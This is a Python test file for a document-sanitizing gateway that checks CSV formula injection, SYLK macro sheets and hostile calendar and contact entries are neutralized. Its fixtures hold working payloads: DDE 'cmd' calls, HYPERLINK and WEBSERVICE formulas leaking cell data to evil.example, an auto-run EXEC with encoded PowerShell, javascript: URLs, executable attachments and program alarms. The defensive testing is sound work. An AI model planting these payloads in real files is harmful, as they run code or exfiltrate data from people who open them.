"""Plain text passes as is; CSV formula injection is neutralized by policy."""

from __future__ import annotations

import base64
from dataclasses import replace
from pathlib import Path

import pytest

from gateway.models import Verdict
from gateway.policy import FormatPolicy, load
from tests.helpers import olegen
from tests.helpers.pipeline import run

POLICY = load("default")

CSV = ("氏名,金額,備考\r\n"
       "山田,-500,返金\r\n"
       "=cmd|' /C calc'!A0,100,x\r\n"
       "佐藤,=SUM(B2:B3),\"=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"詳細\"\")\"\r\n"
       "@WEBSERVICE(\"http://evil.example\"),+1,ok\r\n")



@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp932"])
def test_csv_formulas_neutralized_keeping_encoding(tmp_path: Path, encoding: str) -> None:
    report, out = run(tmp_path, CSV.encode(encoding), "list.csv")
    assert report.verdict is Verdict.DISARMED
    assert {(f.kind, f.location) for f in report.items[0].findings} == {
        ("text.csv_formula", "row[3]/col[1]"), ("text.csv_formula", "row[4]/col[3]"),
        ("text.csv_formula", "row[5]/col[1]")}
    lines = out.read_bytes().decode(encoding).split("\r\n")
    assert lines[0] == "氏名,金額,備考" and lines[1] == "山田,-500,返金"
    assert lines[2] == "\"'=cmd|' /C calc'!A0\",100,x"  # quoted: the ' is no quote char
    assert lines[3].startswith("佐藤,=SUM(B2:B3),\"'=HYPERLINK(")  # harmless SUM stays
    assert lines[4].startswith("\"'@WEBSERVICE(")
    assert out.read_bytes().startswith(b"\xef\xbb\xbf") == (encoding == "utf-8-sig")


@pytest.mark.parametrize(("bom", "codec"), [(b"\xff\xfe", "utf-16-le"),
                                           (b"\xfe\xff", "utf-16-be"),
                                           (b"\xff\xfe\x00\x00", "utf-32-le")])
@pytest.mark.parametrize(("name", "sep"), [("list.csv", ","), ("export.txt.tsv", "\t")])
def test_csv_formulas_neutralized_in_utf16(tmp_path: Path, bom: bytes, codec: str,
                                          name: str, sep: str) -> None:
    """Excel's "Unicode text" is UTF-16 with a BOM, tab-separated, and Excel and
    LibreOffice read a .csv with that BOM as such. None of the 8-bit decodings read
    it, so its =cmd|... cells were delivered as they were."""
    data = bom + CSV.replace(",", sep).encode(codec)
    report, out = run(tmp_path, data, name)
    assert report.verdict is Verdict.DISARMED
    assert {(f.kind, f.location) for f in report.items[0].findings} == {
        ("text.csv_formula", "row[3]/col[1]"), ("text.csv_formula", "row[4]/col[3]"),
        ("text.csv_formula", "row[5]/col[1]")}
    raw = out.read_bytes()
    assert raw.startswith(bom)
    lines = raw[len(bom):].decode(codec).split("\r\n")
    assert lines[0] == sep.join(["氏名", "金額", "備考"])
    assert lines[2] == sep.join(["\"'=cmd|' /C calc'!A0\"", "100", "x"])


def test_csv_rows_follow_quoted_line_breaks(tmp_path: Path) -> None:
    """Rows are read as spreadsheets read them: a line break inside a quoted cell (a bare
    CR too) is part of the cell, a quote inside an unquoted cell is a character, a form
    feed is text. A cell "CR=cmd|..." became three stray quotes and a broken row
    (PayloadsAllTheThings' CSV injection notes); a quoted note whose second line starts
    with "=" was "neutralized" although it is no formula."""
    import csv
    import io
    data = (b'id,note\r\n1,"\r=cmd|\' /C calc\'!A0"\r\n'
            b'2,"first line\r\n=HYPERLINK(""http://evil.example"")",x\r\n'
            b'3,say "hi"\r\n=cmd|\' /C calc\'!A0,y\r\n'
            b"4,page\x0cbreak\r\n")
    report, out = run(tmp_path, data, "notes.csv")
    assert {(f.kind, f.location) for f in report.items[0].findings} == {
        ("text.csv_formula", "row[2]/col[2]"), ("text.csv_formula", "row[5]/col[1]")}
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode(), newline="")))
    assert rows == [["id", "note"], ["1", "'\r=cmd|' /C calc'!A0"],
                    ["2", 'first line\r\n=HYPERLINK("http://evil.example")', "x"],
                    ["3", 'say "hi"'], ["'=cmd|' /C calc'!A0", "y"], ["4", "page\x0cbreak"]]


def test_neutralized_dde_cell_is_no_dde_link_to_msodde(tmp_path: Path) -> None:
    """oletools' dde-in-csv.csv: after the leading apostrophe msodde's dialect sniffer took
    "'" for the quote character and found the DDE link again in the output; the
    neutralized cell is written in double quotes. LibreOffice reads it as text."""
    import subprocess
    import sys
    data = b"=cmd|'/k \\..\\..\\..\\Windows\\System32\\calc.exe'!A0\n"
    report, out = run(tmp_path, data, "dde-in-csv.csv")
    assert {(f.kind, f.location) for f in report.items[0].findings} == {
        ("text.csv_formula", "row[1]/col[1]")}

    def msodde(path: Path) -> str:
        done = subprocess.run([sys.executable, "-m", "oletools.msodde", str(path)],
                              capture_output=True, text=True, check=False)
        return done.stdout.split("DDE Links:", 1)[-1]

    src = tmp_path / "dde-in-csv.csv"
    assert "calc.exe" in msodde(src)
    assert "calc.exe" not in msodde(out)
    olegen.lo_convert([out], "xlsx", tmp_path / "lo")
    import openpyxl
    ws = openpyxl.load_workbook(tmp_path / "lo" / (out.stem + ".xlsx")).active
    assert ws is not None
    cell = ws["A1"]
    assert cell.data_type == "s" and str(cell.value).startswith("'=cmd|")


def test_csv_that_looks_split_at_semicolons_is_also_read_split_at_commas(
        tmp_path: Path) -> None:
    """Japanese Excel splits a .csv at commas whatever the file holds: a file whose head
    is full of semicolons was judged split at semicolons only, and a DDE call after a
    comma stayed a formula for Excel (and for msodde, which sniffs the comma)."""
    data = b"a;b;c;d;e\r\n1;2;3;4;5,=cmd|' /C calc'!A0\r\n=1+1;@SUM(1)\r\n"
    report, out = run(tmp_path, data, "semi.csv")
    assert {(f.kind, f.location) for f in report.items[0].findings} == {
        ("text.csv_formula", "row[2]/col[2]")}
    assert "split at commas" in report.items[0].findings[0].detail
    assert out.read_bytes() == (b"a;b;c;d;e\r\n1;2;3;4;5,\"'=cmd|' /C calc'!A0\"\r\n"
                                b"=1+1;@SUM(1)\r\n")


@pytest.mark.parametrize(("data", "where"), [
    # Excel obeys a first line "sep=;" whatever its locale
    (b"sep=;\r\nname;note\r\nx;=cmd|' /C calc'!A0\r\n", "row[3]/col[2]"),
    (b"sep=\t\r\nname\tnote\r\nx\t=cmd|' /C calc'!A0\r\n", "row[3]/col[2]"),
    # European Excel splits at semicolons, though commas inside the formula outnumber them
    (b"a;=HYPERLINK(\"http://evil.example/,,,,,,\",\"x,y,z\")\r\n", "row[1]/col[2]"),
])
def test_csv_formula_split_at_another_separator_is_neutralized(
        tmp_path: Path, data: bytes, where: str) -> None:
    """Formulas that only appear when the file is split as Excel splits it, at a "sep="
    line's separator or at semicolons, stayed (found by fuzzing)."""
    report, out = run(tmp_path, data, "list.csv")
    assert report.verdict is Verdict.DISARMED
    assert ("text.csv_formula", where) in {(f.kind, f.location)
                                           for f in report.items[0].findings}
    import csv
    import io

    from gateway.stages.text import _dangerous
    for sep in (",", ";", "\t"):
        rows = csv.reader(io.StringIO(out.read_bytes().decode(), newline=""), delimiter=sep)
        assert not [c for row in rows for c in row if _dangerous(c)], sep


def test_fix_for_another_split_never_breaks_a_quoted_cell_of_the_main_one(
        tmp_path: Path) -> None:
    """A tab inside a quoted comma-split cell ("\t=cmd|..."): the tab split's fix wrapped
    its part in quotes, ending the quoted cell early, and the comma split read a stray
    quote into the next cell (found by re-running PayloadsAllTheThings' CSV files).
    The main split's cells stay as they were; its own fix is the quoted text."""
    data = b'name,payload,note\r\nAlice,"\t=cmd|\' /C calc\'!A0",normal text\r\n'
    report, out = run(tmp_path, data, "list.csv")
    assert report.verdict is Verdict.DISARMED
    import csv
    import io
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode(), newline="")))
    assert rows == [["name", "payload", "note"],
                    ["Alice", "'\t=cmd|' /C calc'!A0", "normal text"]]


def test_csv_with_a_byte_no_encoding_reads_is_judged_all_the_same(tmp_path: Path) -> None:
    """One byte invalid in UTF-8, CP932 and EUC-JP made the file pass unjudged, formulas
    and all (found by fuzzing); it is read as CP932 with that byte kept as it is."""
    data = "名前,備考\r\n山田,\x85\r\n=cmd|' /C calc'!A0,x\r\n".encode("cp932", "replace")
    data = data.replace(b"?", b"\x85")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    report, out = run(tmp_path, data, "list.csv")
    assert report.verdict is Verdict.DISARMED
    assert {(f.kind, f.location) for f in report.items[0].findings} == {
        ("text.csv_formula", "row[3]/col[1]")}
    assert out.read_bytes() == data.replace(b"=cmd|' /C calc'!A0",
                                            b"\"'=cmd|' /C calc'!A0\"")


def test_csv_formulas_kept_by_policy(tmp_path: Path) -> None:
    pol = replace(POLICY, formats={**POLICY.formats, "text": FormatPolicy(
        action="disarm", options={"csv_formulas": "keep"})})
    report, out = run(tmp_path, CSV.encode(), "list.csv", policy=pol)
    assert report.verdict is Verdict.CLEAN
    assert out.read_bytes() == CSV.encode()


def test_plain_text_is_delivered_byte_for_byte(tmp_path: Path) -> None:
    data = "議事録\r\n=cmd|' /C calc'!A0 is only text here\r\n".encode("cp932")
    report, out = run(tmp_path, data, "minutes.txt")
    assert report.verdict is Verdict.CLEAN
    assert out.read_bytes() == data


JSON = b'{"municipality": "\xe5\xb8\x82", "offsets": [0, 1024, 2048]}\n'


@pytest.mark.parametrize(("data", "name"), [
    (JSON, "offsets.json"),
    (b'{"a": 1}\n{"a": 2}\n{"a": 3}\n', "rows.ndjson"),
    (b"-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmQENBFxyz\n=abcd\n"
     b"-----END PGP PUBLIC KEY BLOCK-----\n", "key.asc"),
])
def test_data_text_is_delivered_byte_for_byte(tmp_path: Path, data: bytes, name: str) -> None:
    """JSON and armored OpenPGP keys: libmagic gives them application/ types; they were
    blocked as unknown (MimeKit's test .json files). No program runs them."""
    report, out = run(tmp_path, data, name)
    assert report.verdict is Verdict.CLEAN
    assert out.read_bytes() == data


def test_json_named_as_a_script_is_still_a_script(tmp_path: Path) -> None:
    report, out = run(tmp_path, JSON, "config.js")
    assert report.verdict is Verdict.BLOCKED and not out.exists()


# ------------------------------------------------------------------------------ SYLK

#: a SYLK file as Excel writes one, turned into an Excel 4.0 macro sheet that runs on
#: open (O;E, NN Auto_Open), with an XLM macro, a DDE formula, a shared formula, a link
#: to another file and a record type nobody knows
SYLK = (b"ID;PWXL;N;E\r\n"
        b"P;PGeneral\r\n"
        b"F;P0;DG0G8;M292\r\n"
        b"B;Y4;X2;D0 0 3 1\r\n"
        b"O;L;E;D;V0;K47;G100 0.001\r\n"
        b"NN;NAuto_Open;ER1C1\r\n"
        b"NE;Fother.xls;SA1;EB1\r\n"
        b"C;Y1;X1;KFALSE;EEXEC(\"cmd /c calc\")\r\n"
        b'C;Y1;X2;K"\x8e\x73\x96\xf0\x8f\x8a;;\x95\x9f\x8e\x83"\r\n'   # 市役所;福祉 (CP932)
        b"C;Y2;X1;K42;E=cmd|' /c calc'!A0\r\n"
        b"C;Y3;X1;K7;ER2C1+1;S;R2;C1\r\n"
        b"C;Y4;X1;K\"note\";AA comment\r\n"
        b"ZZ;Xsomething\r\n"
        b"E\r\n")


def test_sylk_rebuilt_without_macros(tmp_path: Path) -> None:
    report, out = run(tmp_path, SYLK, "集計.slk")
    assert report.input.type == "text.sylk"
    assert report.verdict is Verdict.DISARMED
    assert {(f.kind, f.location) for f in report.items[0].findings} == {
        ("sylk.macro_sheet", "O"), ("sylk.name", "NN[Auto_Open]"),
        ("sylk.external_link", "NE[1]"), ("sylk.record", "ZZ[1]"),
        ("sylk.formula", "cells")}
    formula = next(f for f in report.items[0].findings if f.kind == "sylk.formula")
    assert formula.detail == "3 formulas removed, the cells keep their last values"
    assert out.read_bytes() == (
        b"ID;PWXL;N;E\r\nP;PGeneral\r\nF;P0;DG0G8;M292\r\nB;Y4;X2;D0 0 3 1\r\n"
        b"O;L;D;V0;K47;G100 0.001\r\n"
        b"C;Y1;X1;KFALSE\r\n"
        b'C;Y1;X2;K"\x8e\x73\x96\xf0\x8f\x8a;;\x95\x9f\x8e\x83"\r\n'
        b"C;Y2;X1;K42\r\nC;Y3;X1;K7\r\nC;Y4;X1;K\"note\";AA comment\r\nE\r\n")
    # the disarmed copy is clean when scanned again
    (tmp_path / "again").mkdir()
    again, _ = run(tmp_path / "again", out.read_bytes(), "集計.slk")
    assert again.verdict is Verdict.CLEAN
    # LibreOffice reads the values
    text = olegen.lo_texts([out], tmp_path / "lo")[out.name]
    assert text is not None
    for value in ("42", "7", "note"):
        assert value in text


def test_sylk_shared_formula_reference_counts_as_a_formula(tmp_path: Path) -> None:
    """A cell that only refers to a shared formula (S, R, C fields) is a formula too."""
    data = b"ID;PWXL;N;E\nC;Y1;X1;K2;ER1C2*2;D\nC;Y2;X1;K4;S;R1;C1\nE\n"
    report, out = run(tmp_path, data, "shared.slk")
    [finding] = report.items[0].findings
    assert (finding.kind, finding.detail) == (
        "sylk.formula", "2 formulas removed, the cells keep their last values")
    assert out.read_bytes() == b"ID;PWXL;N;E\nC;Y1;X1;K2\nC;Y2;X1;K4\nE\n"


def test_sylk_of_values_only_is_delivered_byte_for_byte(tmp_path: Path) -> None:
    data = b"ID;PWXL;N;E\nC;Y1;X1;K1\nC;Y1;X2;K\"a;;b\"\nE\n"
    report, out = run(tmp_path, data, "values.slk")
    assert report.verdict is Verdict.CLEAN
    assert out.read_bytes() == data


def test_sylk_macro_with_script_code_is_disarmed_unless_named_as_a_script(
        tmp_path: Path) -> None:
    """Script code in a SYLK formula goes with the formula; the same bytes named .js
    are a script Windows would run."""
    data = (b"ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_Open;ER1C1\r\n"
            b"C;Y1;X1;K0;EEXEC(\"powershell -EncodedCommand SQBFAFgA\")\r\nE\r\n")
    report, out = run(tmp_path, data, "order.slk")
    assert report.input.type == "text.sylk" and report.verdict is Verdict.DISARMED
    assert b"powershell" not in out.read_bytes()
    (tmp_path / "js").mkdir()
    report, _ = run(tmp_path / "js", data, "order.js")
    assert report.input.type == "executable.script" and report.verdict is Verdict.BLOCKED


def test_sylk_blocked_by_the_strict_policy(tmp_path: Path) -> None:
    """The design's "blocked outright" stays one setting away (text: sylk: block)."""
    report, out = run(tmp_path, SYLK, "集計.slk", policy=load("strict"))
    assert (report.verdict, report.reason) == (Verdict.BLOCKED,
                                               "SYLK (.slk) is blocked by policy strict")
    assert {(f.kind, f.location) for f in report.items[0].findings} == {("block.policy", "")}
    assert not out.exists()


def test_sylk_macro_sheet_flag_with_blanks_is_removed(tmp_path: Path) -> None:
    report, out = run(tmp_path, b"ID;PWXL;N;E\nO;L; E ;V0\nC;Y1;X1;K1\nE\n", "m.slk")
    assert {(f.kind, f.location) for f in report.items[0].findings} == {
        ("sylk.macro_sheet", "O")}
    assert out.read_bytes() == b"ID;PWXL;N;E\nO;L;V0\nC;Y1;X1;K1\nE\n"


@pytest.mark.parametrize("unit", ["\n", "\r\n "], ids=["line ends", "blank lines"])
def test_text_of_blank_lines_is_judged_in_linear_time(tmp_path: Path, unit: str) -> None:
    """The check for PDF objects in what libmagic calls text matched blanks across line
    ends at every line start: 200 kB of line ends took 32 s to sniff. Run in a worker
    held to 5 s of CPU, as the daemon runs it: delivered as the text it is."""
    from tests.helpers.pipeline import run_in_worker

    data = ("冒頭の一行\n" + unit * (200_000 // len(unit))).encode()
    report, out = run_in_worker(tmp_path, data, "blank.txt")
    assert report.verdict is Verdict.CLEAN, report.reason
    assert out.read_bytes() == data



def test_csv_with_a_long_text_cell_is_delivered(tmp_path: Path) -> None:
    """Python's csv refuses a field over 128 kB by default: a CSV with one long text cell
    (a pasted report, a log) ended as an internal error instead of a verdict."""
    long = "長い本文。" * 40_000
    data = f"名前,本文\r\n山田,{long}\r\n佐藤,=cmd|' /C calc'!A0\r\n".encode()
    report, out = run(tmp_path, data, "long.csv")
    assert report.verdict is Verdict.DISARMED, report.reason
    assert {(f.kind, f.location) for f in report.items[0].findings} == {
        ("text.csv_formula", "row[3]/col[2]")}
    rows = out.read_bytes().decode().split("\r\n")
    assert rows[1] == f"山田,{long}" and rows[2] == "佐藤,\"'=cmd|' /C calc'!A0\""


def test_csv_cell_of_pipes_is_judged_in_linear_time(tmp_path: Path) -> None:
    """A DDE call in a cell was found with ``\\|.*!``, which scans to the end of the line
    from every ``|``: one cell of 300 kB of pipes took about 20 s. Run in a worker held to
    5 s of CPU: the cell is judged (not a DDE call: no ``!``) well inside that, and a
    real one is still neutralized."""
    from tests.helpers.pipeline import run_in_worker

    data = ("名前,式\r\n山田,=" + "|" * 300_000 + "\r\n佐藤,=cmd|' /C calc'!A0\r\n").encode()
    report, out = run_in_worker(tmp_path, data, "pipes.csv")
    assert report.verdict is Verdict.DISARMED, report.reason
    assert {(f.kind, f.location) for f in report.items[0].findings} == {
        ("text.csv_formula", "row[3]/col[2]")}
    assert out.read_bytes().decode().split("\r\n")[2] == "佐藤,\"'=cmd|' /C calc'!A0\""


INVITE = (b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example//Invite//EN\r\nMETHOD:REQUEST\r\n"
          b"BEGIN:VEVENT\r\nUID:act-1@example.com\r\nSUMMARY:\xe5\xae\x9a\xe4\xbe\x8b\xe4\xbc\x9a\r\n"
          b"DTSTART:20250610T120000Z\r\nDTEND:20250610T130000Z\r\n"
          b"DESCRIPTION:Join at https://www.city.example.lg.jp/room\r\n")
HOSTILE_EVENT = (
    b"URL:javascript:alert(1)\r\n"
    b"ATTACH;FMTTYPE=application/x-msdownload;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=run.e\r\n"
    b" xe:TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA\r\n"
    b"ATTACH:https://evil.example/payload.exe\r\n"
    b"X-ALT-DESC;FMTTYPE=text/html:<html><body><script>alert(2)</script><p>Join</p></bod\r\n"
    b" y></html>\r\n"
    b"BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH;VALUE=URI:file:///c:/windows/system32/calc.e"
    b"xe\r\nTRIGGER:-PT5M\r\nEND:VALARM\r\n"
    b"BEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:https://evil.example/ring.wav\r\n"
    b"TRIGGER:-PT10M\r\nEND:VALARM\r\n")
END = b"END:VEVENT\r\nEND:VCALENDAR\r\n"


def test_calendar_invitation_keeps_the_event_without_what_runs_or_fetches(
        tmp_path: Path) -> None:
    """Found with SpamAssassin's handler_ics_html.eml and a probe: a text/calendar part
    went through untouched, verdict clean: an HTML description with a script (Outlook
    shows it), an inline .exe and files fetched from elsewhere (ATTACH), a
    javascript: URL, an alarm that runs a program."""
    report, out = run(tmp_path, INVITE + HOSTILE_EVENT + END, "invite.ics")
    assert report.input.type == "text.calendar"
    assert report.verdict is Verdict.DISARMED
    ev = "VCALENDAR[0]/VEVENT[0]"
    assert {(f.kind, f.location) for f in report.items[0].findings} == {
        ("calendar.url", f"{ev}/URL"), ("calendar.attachment", f"{ev}/ATTACH"),
        ("calendar.html_description", f"{ev}/X-ALT-DESC"),
        ("calendar.alarm_procedure", f"{ev}/VALARM[0]"),
        ("calendar.attachment", f"{ev}/VALARM[1]/ATTACH")}
    text = out.read_bytes()
    for gone in (b"javascript", b"TVqQ", b"evil.example", b"<script", b"PROCEDURE"):
        assert gone not in text
    assert INVITE in text and text.endswith(b"TRIGGER:-PT10M\r\nEND:VALARM\r\n" + END)


def test_calendar_addresses_html_and_alarms_beyond_attach_and_url(tmp_path: Path) -> None:
    """Found with probes beside icalendar's, libical's and vobject's test calendars (each
    read by icalendar, vobject or libical as the property it looks like): other
    properties holding addresses, HTML descriptions under other names or encodings,
    vCalendar's program alarm, an unbalanced quote or a group prefix hiding ATTACH. All
    went through, verdict clean."""
    html = base64.b64encode(b"<p>Join</p><script>alert(1)</script>").decode()
    event = (
        'ATTACH;X-NOTE=a"b:https://evil.example/a.exe\r\n'
        "A.ATTACH:https://evil.example/b.exe\r\n"
        "ITEM1.URL:file:///c:/windows/calc.exe\r\n"
        "CONFERENCE;VALUE=URI;FEATURE=VIDEO:https://meet.example.com/room\r\n"
        "CONFERENCE;VALUE=URI;FEATURE=PHONE:tel:+81-3-0000-0000\r\n"
        "CONFERENCE;VALUE=URI:javascript:alert(3)\r\n"
        "IMAGE;VALUE=URI;DISPLAY=BADGE:\\\\evil.example\\share\\logo.png\r\n"
        "SOURCE;VALUE=URI:file:///etc/passwd\r\n"
        "X-MICROSOFT-SKYPETEAMSMEETINGURL:file://evil.example/share/x.exe\r\n"
        "ATTENDEE;CN=Bob:mailto:bob@example.com\r\n"
        'COMMENT;ALTREP="file:///c:/x.html":see the notes\r\n'
        "STYLED-DESCRIPTION;VALUE=TEXT;FMTTYPE=text/html:<p>Hi</p><iframe src=x></iframe>\r\n"
        "X-MICROSOFT-CDO-ALTDESC;FMTTYPE=text/html:<img src=https://tracker.example/p.gif>\r\n"
        f"X-ALT-DESC;FMTTYPE=text/html;ENCODING=BASE64:{html}\r\n")
    report, out = run(tmp_path, INVITE + event.encode() + END, "invite.ics")
    ev = "VCALENDAR[0]/VEVENT[0]"
    assert {(f.kind, f.location) for f in report.items[0].findings} == {
        ("calendar.attachment", f"{ev}/ATTACH"), ("calendar.url", f"{ev}/URL"),
        ("calendar.url", f"{ev}/CONFERENCE"), ("calendar.url", f"{ev}/IMAGE"),
        ("calendar.url", f"{ev}/SOURCE"),
        ("calendar.url", f"{ev}/X-MICROSOFT-SKYPETEAMSMEETINGURL"),
        ("calendar.url", f"{ev}/COMMENT;ALTREP"),
        ("calendar.html_description", f"{ev}/STYLED-DESCRIPTION"),
        ("calendar.html_description", f"{ev}/X-MICROSOFT-CDO-ALTDESC"),
        ("calendar.html_description", f"{ev}/X-ALT-DESC")}
    text = out.read_bytes().decode()
    for gone in ("evil.example", "javascript", "file:", "iframe", "tracker", html):
        assert gone not in text, gone
    for kept in ("https://meet.example.com/room", "tel:+81-3-0000-0000",
                 "ATTENDEE;CN=Bob:mailto:bob@example.com", "COMMENT:see the notes"):
        assert kept in text, kept
    import icalendar  # an independent reader: the event and what stays still parse

    event_out = icalendar.Calendar.from_ical(text).walk("VEVENT")[0]
    assert str(event_out["SUMMARY"]) == "定例会" and len(event_out["CONFERENCE"]) == 2


@pytest.mark.parametrize("lead", [b"", b"\x0c"])
def test_calendar_component_without_its_vcalendar_is_read_too(tmp_path: Path,
                                                              lead: bytes) -> None:
    """A bare VEVENT, or a calendar after a form feed, was sniffed as plain text and
    delivered with its ATTACH and program alarm (icalendar's alarms/*.ics; calendar
    programs read them)."""
    body = (b"BEGIN:VEVENT\r\nUID:1@example.com\r\nSUMMARY:x\r\n"
            b"ATTACH:https://evil.example/a.exe\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\n"
            b"TRIGGER:-PT5M\r\nEND:VALARM\r\nEND:VEVENT\r\n")
    report, out = run(tmp_path, lead + body, "event.ics")
    assert report.input.type == "text.calendar" and report.verdict is Verdict.DISARMED
    assert {(f.kind, f.location) for f in report.items[0].findings} == {
        ("calendar.attachment", "VEVENT[0]/ATTACH"),
        ("calendar.alarm_procedure", "VEVENT[0]/VALARM[0]")}
    assert out.read_bytes() == lead + b"BEGIN:VEVENT\r\nUID:1@example.com\r\nSUMMARY:x\r\n" \
        b"END:VEVENT\r\n"


def test_vcalendar_program_and_sound_alarms_are_removed(tmp_path: Path) -> None:
    data = (b"BEGIN:VCALENDAR\r\nVERSION:1.0\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\n"
            b"DTSTART:20240101T100000Z\r\n"
            b"PALARM:20240101T095000Z;PT5M;2;C:\\Windows\\System32\\calc.exe\r\n"
            b"AALARM:20240101T095000Z;;;file:///c:/ring.wav\r\n"
            b"DALARM:20240101T095000Z;;;Meeting soon\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
    report, out = run(tmp_path, data, "old.vcs")
    ev = "VCALENDAR[0]/VEVENT[0]"
    assert {(f.kind, f.location) for f in report.items[0].findings} == {
        ("calendar.alarm_procedure", f"{ev}/PALARM"), ("calendar.url", f"{ev}/AALARM")}
    assert b"calc.exe" not in out.read_bytes() and b"DALARM:" in out.read_bytes()


def test_calendar_keeps_its_folding_and_byte_order(tmp_path: Path) -> None:
    """After a removal the whole file was written with its folded lines joined (lines
    of 3,400 characters in recurring-ical-events' issue42.ics), and UTF-16BE came out
    as UTF-16LE."""
    long = "DESCRIPTION:" + "x" * 70 + "\r\n " + "y" * 70 + "\r\n"
    data = INVITE + long.encode() + b"URL:javascript:alert(1)\r\n" + END
    _, out = run(tmp_path, data, "folded.ics")
    assert out.read_bytes() == INVITE + long.encode() + END
    wide = (INVITE + b"URL:javascript:alert(1)\r\n" + END).decode().encode("utf-16-be")
    _, out = run(tmp_path, b"\xfe\xff" + wide, "wide.ics")
    assert out.read_bytes() == b"\xfe\xff" + (INVITE + END).decode().encode("utf-16-be")


def test_contact_card_loses_addresses_that_run_or_reach_files(tmp_path: Path) -> None:
    """A vCard was plain text: a PHOTO from a share, a javascript: URL and a SOUND over
    smb: went through (a probe beside vobject's test cards). It is read with the
    calendar's content lines; an inline picture, the name and the numbers stay."""
    photo = base64.b64encode(b"\xff\xd8\xff\xe0 jpeg").decode()
    card = ("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:\u5c71\u7530 \u592a\u90ce\r\n"
            "N:\u5c71\u7530;\u592a\u90ce;;;\r\nTEL;TYPE=WORK:+81-3-0000-0000\r\n"
            "PHOTO;VALUE=URI:file://attacker.example/share/p.jpg\r\n"
            f"LOGO;ENCODING=b;TYPE=JPEG:{photo}\r\n"
            "URL:javascript:alert(1)\r\nSOUND;VALUE=URI:smb://attacker.example/s.wav\r\n"
            "EMAIL:taro@city.example.lg.jp\r\nEND:VCARD\r\n").encode()
    report, out = run(tmp_path, card, "taro.vcf")
    assert report.input.type == "text.vcard" and report.verdict is Verdict.DISARMED
    assert report.output is not None and report.output.name == "taro.vcf"
    assert {(f.kind, f.location) for f in report.items[0].findings} == {
        ("calendar.url", "VCARD[0]/PHOTO"), ("calendar.url", "VCARD[0]/URL"),
        ("calendar.url", "VCARD[0]/SOUND")}
    text = out.read_bytes().decode()
    assert "attacker" not in text and "javascript" not in text
    for kept in ("FN:\u5c71\u7530 \u592a\u90ce", "TEL;TYPE=WORK:+81-3-0000-0000",
                 f"LOGO;ENCODING=b;TYPE=JPEG:{photo}", "EMAIL:taro@city.example.lg.jp"):
        assert kept in text, kept


def test_calendar_value_split_by_a_unicode_line_separator_is_still_read_whole(
        tmp_path: Path) -> None:
    """U+2028 inside a value is no line break to a calendar program: a script behind it
    in the HTML description must still be seen."""
    desc = "X-ALT-DESC;FMTTYPE=text/html:<p>Join</p>\u2028<script>alert(1)</script>\r\n"
    report, out = run(tmp_path, INVITE + desc.encode() + END, "split.ics")
    assert ("calendar.html_description", "VCALENDAR[0]/VEVENT[0]/X-ALT-DESC") in {
        (f.kind, f.location) for f in report.items[0].findings}
    assert b"<script" not in out.read_bytes()


def test_calendar_in_utf16_is_disarmed_as_well(tmp_path: Path) -> None:
    data = (INVITE + HOSTILE_EVENT + END).decode("utf-8").encode("utf-16")
    report, out = run(tmp_path, data, "wide.ics")
    assert report.input.type == "text.calendar" and report.verdict is Verdict.DISARMED
    text = out.read_bytes().decode("utf-16")
    assert "evil.example" not in text and "javascript" not in text and "SUMMARY:" in text


def test_plain_calendar_is_clean_and_unchanged(tmp_path: Path) -> None:
    report, out = run(tmp_path, INVITE + END, "plain.ics")
    assert report.verdict is Verdict.CLEAN
    assert out.read_bytes() == INVITE + END
